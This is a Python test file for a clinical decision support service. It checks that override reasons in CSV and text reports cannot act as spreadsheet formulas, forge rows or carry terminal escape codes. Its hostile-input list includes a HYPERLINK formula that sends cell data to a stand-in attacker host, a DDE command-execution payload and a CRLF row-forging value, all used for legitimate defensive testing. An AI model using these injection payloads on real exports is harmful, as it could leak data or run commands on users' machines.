"""Issue 24: override reasons come from any CDS client; in the CSV and text reports they can
be neither a spreadsheet formula, nor a forged row, nor terminal escape codes."""

from __future__ import annotations

import csv
import io

import pytest

from cds_service.governance.export import printable, spreadsheet_cell
from cds_service.governance.report import ReasonCount, RuleWeekStats, render_csv, render_text

HOSTILE_CODES = [
    '=HYPERLINK("https://evil.example.net/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "ok\r\nFEBRILE_NEUTROPENIA,2025-W01,999,999,0,1.0000,forged",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "tab\tcode\x85next\u2028line",
    "rtl\u202eedoc",
]


def _stats(code: str) -> list[RuleWeekStats]:
    reason = ReasonCount(code=code, display=code, count=3)
    return [RuleWeekStats("CBC_STALE", "2025-W10", 5, 1, 3, (reason,))]


@pytest.mark.parametrize("code", HOSTILE_CODES)
def test_csv_cells_are_not_formulas_and_rows_are_not_forged(code):
    rows = list(csv.reader(io.StringIO(render_csv(_stats(code)))))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
        assert printable(cell) == cell
    assert rows[1][:6] == ["CBC_STALE", "2025-W10", "5", "1", "3", "0.2000"]


@pytest.mark.parametrize("code", HOSTILE_CODES)
def test_text_report_has_one_line_per_row_and_no_control_characters(code):
    text = render_text(_stats(code))
    lines = text.splitlines()
    assert len(lines) == 2
    assert text.count("\n") == 2
    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for line in lines for ch in line)
    assert "\u202e" not in text and "\u2028" not in text


def test_harmless_values_are_left_alone():
    assert spreadsheet_cell("already-addressed=4; counts-reviewed=1") == (
        "already-addressed=4; counts-reviewed=1"
    )
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell("-3") == "'-3"  # text that would be read as a formula
    assert printable("Neutropenia 0.4 (x10^9/L)") == "Neutropenia 0.4 (x10^9/L)"
